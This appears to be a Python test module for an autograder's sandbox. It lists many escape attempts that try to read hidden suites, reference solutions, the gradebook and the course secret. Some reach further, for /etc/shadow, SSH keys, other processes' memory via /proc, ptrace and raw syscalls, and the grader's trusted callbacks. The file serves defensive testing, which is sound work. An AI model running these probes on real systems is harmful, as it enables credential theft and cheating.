"""What is hidden: suites, expected values, the reference, other submissions, the gradebook, the course's secret."""

# ruff: noqa: E501
from __future__ import annotations

from tests.attacks.attack import OURS, Attack

__all__ = ["ATTACKS"]

STEAL = """
        loot = []
        def steal(path):
            try: loot.append(open(path, 'rb').read(100_000))
            except (OSError, ValueError) as error: print(type(error).__name__)
"""

# fmt: off
ATTACKS = (
    Attack("read the suite", "opens the hidden suite", STEAL + """
        steal(f'{suite}/test_momentum.py'); steal(f'{suite}/misconceptions.py')
        """),
    Attack("read the reference", "opens the reference", STEAL + "        steal(f'{reference}/nag.py')"),
    Attack("import the reference", "imports it", "import reference\nloot = [reference.nag_step]", ends=("raised",), not_stock=OURS),
    Attack("import the suite", "imports it", """
        import autograder.suites.ex3_momentum.test_momentum as t
        loot = [t]
        """, ends=("raised",), not_stock=OURS),
    Attack("sources by inspect", "has Python itself read the source of modules beside it", """
        import autograder.sandbox.wire as wire, inspect, linecache
        loot = [line for line in linecache.getlines(f'{suite}/test_momentum.py')]
        loot += linecache.getlines(inspect.getfile(wire))
        """, not_stock=OURS),
    Attack("package data", "pkgutil and importlib.resources as a way to files of packages", """
        import importlib.metadata, importlib.resources, pkgutil
        loot = []
        for read in (lambda: pkgutil.get_data('autograder', 'suites/ex3_momentum/test_momentum.py'),
                     lambda: importlib.resources.files('reference').joinpath('nag.py').read_bytes(),
                     lambda: importlib.metadata.distribution('nighthike').read_text('RECORD')):
            try: data = str(read())
            except Exception as error: print(type(error).__name__)
            else: loot += [data] if 'def ' in data or 'suites' in data else []
        """, not_stock=OURS),
    Attack("list the suites", "lists the folder", "import os\nloot = os.listdir(suite)", ends=("raised",)),
    Attack("compiled suite", "reads its compiled modules", STEAL + """
        import glob
        for p in glob.glob(f'{suite}/**/*.pyc', recursive=True) + [f'{suite}/__pycache__']: steal(p)
        """),
    Attack("read the gradebook", "opens it", STEAL + "        steal(gradebook)"),
    Attack("gradebook by sqlite", "opens it as a database, through a URI", """
        import sqlite3
        loot = [sqlite3.connect(f'file:{gradebook}?mode=ro&immutable=1', uri=True).execute('select 1').fetchall()]
        """),
    Attack("read another submission", "opens it", STEAL + "        steal(other)"),
    Attack("read the configuration", "which holds the secret", STEAL + "        steal(f'{course}/nbgrader_config.py')"),
    Attack("read the source notebook", "which holds the solutions", STEAL + """
        steal(f'{course}/source/ex3_momentum/momentum.ipynb')
        """),
    Attack("search the disk", "walks all of the disk for the canary", """
        import os
        loot = []
        for top in ('/tmp', '/home', '/root', '/var', '/srv', '/mnt', course):
            for parent, _, names in os.walk(top):
                for name in names:
                    try: data = open(os.path.join(parent, name), 'rb').read(10_000)
                    except OSError: continue
                    if b'canary' in data and parent != os.getcwd(): loot.append(name)
        """, ends=("passed", "raised", "timeout")),
    Attack("links to the suite", "symbolic and hard links", STEAL + """
        import os
        for make in (os.symlink, os.link):
            try: make(f'{suite}/test_momentum.py', 'copy')
            except OSError as e: print(e)
        steal('copy')
        """),
    Attack("ways around a path", "dots, doubled slashes, /proc/self/cwd and /proc/self/root", STEAL + """
        import os
        up = '../' * 30
        for path in (up + gradebook, '//' + gradebook, './' + up + gradebook, '/proc/self/cwd/' + up + gradebook,
                     '/proc/self/root' + gradebook, '/proc/thread-self/root' + gradebook, gradebook + '/.'):
            steal(path)
        """),
    Attack("open a folder, then its file", "a descriptor of the folder above as a starting point", """
        import os
        at = os.open(course, os.O_RDONLY | os.O_DIRECTORY | os.O_PATH)
        loot = [os.read(os.open('gradebook.db', os.O_RDONLY, dir_fd=at), 100)]
        """),
    Attack("open by handle", "name_to_handle_at and open_by_handle_at, which know no paths", """
        import ctypes, os, platform
        libc, arm = ctypes.CDLL(None, use_errno=True), platform.machine() == 'aarch64'
        handle = ctypes.create_string_buffer(b'\\x80\\0\\0\\0' + bytes(200)); mount = ctypes.c_int()
        got = libc.syscall(264 if arm else 303, -100, gradebook.encode(), handle, ctypes.byref(mount), 0)
        fd = libc.syscall(265 if arm else 304, -100, handle, 0)
        loot = [os.read(fd, 100)] if fd >= 0 else []
        """),
    Attack("open in other ways", "openat2, truncation, a memory map, a copy inside the kernel", """
        import ctypes, mmap, os
        libc, how = ctypes.CDLL(None, use_errno=True), (ctypes.c_uint64 * 3)(0, 0, 0)
        fd = libc.syscall(437, -100, gradebook.encode(), how, 24)
        loot = [os.read(fd, 100)] if fd >= 0 else []
        for flags in (os.O_RDWR, os.O_WRONLY, os.O_RDONLY | os.O_NOATIME, os.O_RDONLY | os.O_DIRECT):
            try: loot.append(os.open(gradebook, flags))
            except OSError: pass
        """),
    Attack("read /proc", "environment and maps of other processes", STEAL + """
        for p in ('1', 'self/../1'):
            for name in ('environ', 'maps', 'cmdline', 'status', 'root', 'cwd', 'fd/0'): steal(f'/proc/{p}/{name}')
        """),
    Attack("environment at the start", "what the process was started with", """
        try: data = open('/proc/self/environ', 'rb').read()
        except OSError: data = b''
        loot = [part for part in data.split(b'\\0') if b'SECRET' in part or b'canary' in part or b'TOKEN' in part]
        """),
    Attack("every process's files", "all of /proc: command lines, memory, open files", STEAL + """
        import glob
        for path in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/fd/*'):
            if f'/{__import__("os").getpid()}/' not in path: steal(path)
        """),
    Attack("read the parent's memory", "through /proc", STEAL + """
        import os
        steal(f'/proc/{os.getppid()}/mem'); steal(f'/proc/{os.getppid()}/cmdline')
        """),
    Attack("process_vm_readv", "the parent's memory by a system call", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True); buf = ctypes.create_string_buffer(8)
        class IO(ctypes.Structure): _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]
        mine, theirs = IO(ctypes.addressof(buf), 8), IO(id(libc), 8)
        n = libc.process_vm_readv(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        loot = [buf.raw] if n > 0 else []
        """),
    Attack("ptrace", "attaches to the parent", """
        import ctypes, os
        loot = ['attached'] if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else []
        """),
    Attack("a descriptor of the parent", "pidfd_open and pidfd_getfd", """
        import ctypes, os
        libc = ctypes.CDLL(None)
        pid = libc.syscall(434, os.getppid(), 0)
        loot = [fd for fd in (libc.syscall(438, pid, n, 0) for n in range(20)) if fd >= 0] + ([pid] if pid >= 0 else [])
        """),
    Attack("kernel's messages and memory", "kmsg, kcore, mem, the disks", STEAL + """
        import ctypes, glob
        for path in ['/dev/kmsg', '/proc/kcore', '/proc/kallsyms', '/dev/mem', *glob.glob('/dev/[svn][dv]*')]: steal(path)
        if ctypes.CDLL(None).klogctl(3, ctypes.create_string_buffer(4096), 4096) > 0: loot.append('syslog')
        """),
    Attack("accounts and keys", "the instructor's home, keys and passwords", STEAL + """
        import os
        for path in ('/etc/shadow', '/etc/passwd', '/root/.ssh/id_rsa', '/root/.bash_history', '/run/secrets'):
            steal(path)
        """),
    Attack("secrets in the environment", "os.environ", """
        import os
        loot = [k for k in os.environ if 'SECRET' in k or 'TOKEN' in k or 'NIGHTHIKE' in k]
        """),
    Attack("the command line", "what the warm process was told at its start", """
        import sys
        told = ' '.join(map(str, [*sys.argv, *sys.orig_argv]))
        loot = [told] if 'canary' in told or course in told else []
        """),
    Attack("modules in memory", "objects of the judge, the suites or the reference among all objects", """
        import gc, sys
        ours = ('reference', 'autograder.judge', 'autograder.suites', 'autograder.grading', 'autograder.course')
        loot = [m for m in sys.modules if m.startswith(ours)]
        loot += [o for o in gc.get_objects() if str(getattr(o, '__module__', '')).startswith(ours)]
        """, not_stock=OURS),
    Attack("search the heap", "reads all mapped memory around every object, looking for the secret and the suite", """
        import ctypes, gc
        libc, seen, loot, step = ctypes.CDLL(None, use_errno=True), set(), [], 1 << 20
        marks = [b'Witness ' + b'rule', b'canary-of-the-' + b'gradebook', b'canary-of-the-' + b'secret']
        vec = ctypes.create_string_buffer(256)
        todo = {id(o) // step for o in gc.get_objects()[::50]}
        while todo:
            block = todo.pop(); seen.add(block)
            if libc.mincore(ctypes.c_void_p(block * step), ctypes.c_size_t(step), vec) != 0: continue
            data = ctypes.string_at(block * step, step)
            loot += [mark for mark in marks if mark in data]
            todo |= {block - 1, block + 1} - seen
        """, ends=("passed", "raised", "timeout", "killed")),
    Attack("inherited descriptors", "reads every open descriptor", """
        import os
        loot = []
        for fd in range(3, 128):
            try: head = os.pread(fd, 9999, 0)
            except OSError: continue
            if b'canary' in head or b'def ' in head or b'nighthike' in head: loot.append(fd)
        """, not_stock=OURS),
    Attack("a channel to the next student", "a socket or pipe besides the line", """
        import os, stat
        sockets = []
        for fd in range(3, 128):
            try: s = os.fstat(fd)
            except OSError: continue
            if stat.S_ISSOCK(s.st_mode) or stat.S_ISFIFO(s.st_mode): sockets.append(fd)
        loot = sockets[1:]
        """, not_stock=OURS),
    Attack("a note of another student", "looks for what an earlier submission left in its folder", """
        import os
        loot = os.listdir('.') + ([os.environ['NOTE']] if 'NOTE' in os.environ else [])
        """, not_stock=OURS),
    Attack("frames of the caller", "local variables of the judge", """
        import sys
        loot, f = [], sys._getframe()
        while f:
            if 'judge' in f.f_code.co_filename or 'suites' in f.f_code.co_filename: loot.append(f.f_locals)
            f = f.f_back
        """),
    Attack("inside a callback", "globals, closure, code, self and module of a trusted function", """
        loot = []
        def nag_step(theta, v, grad_fn, lr, beta):
            for name in ('__globals__', '__closure__', '__code__', '__self__', '__func__', '__wrapped__', '__defaults__'):
                if getattr(grad_fn, name, None) is not None: loot.append(name)
            return theta, v
        """),
    Attack("a callback pickled", "has pickle, dill or copy take a trusted function apart", """
        import copyreg, pickle
        def nag_step(theta, v, grad_fn, lr, beta):
            try: data = pickle.dumps(grad_fn)
            except Exception as error: raise ValueError(f'no: {error}')
            if b'reference' in data or b'momentum' in data: loot.append(data)
            return theta, v
        loot = []
        """),
    Attack("a callback's traceback", "makes a trusted function fail and reads what its error tells", """
        loot = []
        def nag_step(theta, v, grad_fn, lr, beta):
            for bad in (None, 'x', object(), [[1], 2], {}, np.zeros((3, 3, 3)), float('nan'), -1, 10 ** 30):
                try: grad_fn(bad)
                except Exception as error:
                    said, tb = str(error), error.__traceback__
                    while tb:
                        if 'suites' in tb.tb_frame.f_code.co_filename: loot.append(tb.tb_frame.f_locals)
                        tb = tb.tb_next
                    if '.py' in said or 'reference' in said or error.__cause__: loot.append(said)
            return theta, v
        """),
    Attack("an address in an array interface", "NumPy on the trusted side is to read memory at an address", """
        loot = []
        class Window:
            __array_interface__ = {'shape': (64,), 'typestr': '|u1', 'data': (id(loot), True), 'version': 3}
        def nag_step(theta, v, grad_fn, lr, beta):
            found = grad_fn(Window())
            loot.append(found)
            return found, found
        """),
    Attack("an address in a record", "the same in a dataclass, whose fields are read by name", """
        import dataclasses
        where = {'shape': (64,), 'typestr': '|u1', 'data': (4096, True), 'version': 3}
        Window = dataclasses.make_dataclass('Window', ['__array_interface__'])
        loot = []
        def nag_step(theta, v, grad_fn, lr, beta):
            found = grad_fn(Window(where)); loot.append(found)
            return [Window(where)], [Window(where)]
        """),
    Attack("the right answer asked for", "has the trusted function tell what the answer to the check would be", """
        def nag_step(theta, v, grad_fn, lr, beta):
            for name in ('expected', 'reference', 'answer', 'nag_step'):
                try: return getattr(grad_fn, name)(theta, v, grad_fn, lr, beta)
                except Exception: pass
            return grad_fn(theta, v, grad_fn, lr, beta)
        """),
    Attack("hidden code in an error", "fails in every way and hopes that the check's source is shown", """
        import itertools
        kinds = itertools.cycle((AssertionError(), KeyError('x'), SyntaxError('x', ('f', 1, 1, 'code')), TypeError()))
        def nag_step(*a): raise next(kinds)
        """),
    Attack("how long the judge takes", "measures how long the trusted side takes to compare", """
        import time
        times, loot, last = [], [], [0.0]
        def nag_step(theta, v, grad_fn, lr, beta):
            times.append(time.perf_counter() - last[0]); last[0] = time.perf_counter()
            return theta + len(times) * 1e-9, v
        """),
    Attack("history of IPython", "what was run in this shell before", """
        ip, marks = get_ipython(), ('import ' + 'reference', 'canary-' + 'of')
        lines = [*ip.history_manager.input_hist_raw, *map(repr, ip.user_ns.get('Out', {}).values())]
        loot = [line for line in lines if any(mark in line for mark in marks)]
        """),
)
